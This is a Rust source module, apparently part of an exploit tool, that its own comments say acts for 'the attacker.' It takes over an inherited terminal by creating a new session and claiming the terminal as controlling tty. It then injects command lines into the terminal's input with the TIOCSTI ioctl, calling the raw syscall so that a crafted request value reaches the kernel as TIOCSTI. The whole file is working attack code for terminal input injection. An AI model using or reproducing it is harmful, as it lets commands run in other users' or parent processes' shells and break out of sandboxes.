//! The terminal that the attacker has inherited.

use super::child;
use nix::errno::Errno;
use nix::fcntl::{OFlag, open};
use nix::libc;
use nix::sys::stat::Mode;
use nix::unistd::{Pid, getpid, getsid, isatty, setpgid, setsid};
use std::os::fd::{BorrowedFd, IntoRawFd, RawFd};

/// Its descriptor: a standard stream, else the controlling terminal; else standard error, whatever that is.
pub fn inherited() -> RawFd {
    // SAFETY: a number that is not open is refused.
    let is_terminal = |fd: &RawFd| isatty(unsafe { BorrowedFd::borrow_raw(*fd) }).unwrap_or(false);
    [2, 0, 1].into_iter().find(is_terminal).unwrap_or_else(|| {
        open("/dev/tty", OFlag::O_RDWR | OFlag::O_CLOEXEC, Mode::empty()).map_or(2, IntoRawFd::into_raw_fd)
    })
}

/// Makes it the controlling terminal of a session of the attacker's own.
pub fn take(terminal: RawFd) -> Result<(), Errno> {
    let own = getpid();
    if setsid().is_err() && getsid(None)? != own {
        // The leader of a process group can't leave it, but join another one first (setsid(2)).
        let other = child::waiting()?;
        setpgid(other, other)?;
        setpgid(Pid::from_raw(0), other)?;
        setsid()?;
    }
    // SAFETY: an ioctl that takes an integer.
    Errno::result(unsafe { libc::ioctl(terminal, libc::TIOCSCTTY, 0) }).map(drop)
}

/// Pushes a line into its input, as if it had been typed (TIOCSTI, ioctl_tty(2)). `request` is TIOCSTI, as far
/// as the kernel looks at it.
pub fn type_line(terminal: RawFd, request: u64, line: &str) -> Result<(), Errno> {
    for byte in line.bytes().chain([b'\n']) {
        // SAFETY: the ioctl reads one byte. Not ioctl(3): some C libraries cut the request to 32 bits.
        Errno::result(unsafe { libc::syscall(libc::SYS_ioctl, terminal, request, &raw const byte) })?;
    }
    Ok(())
}
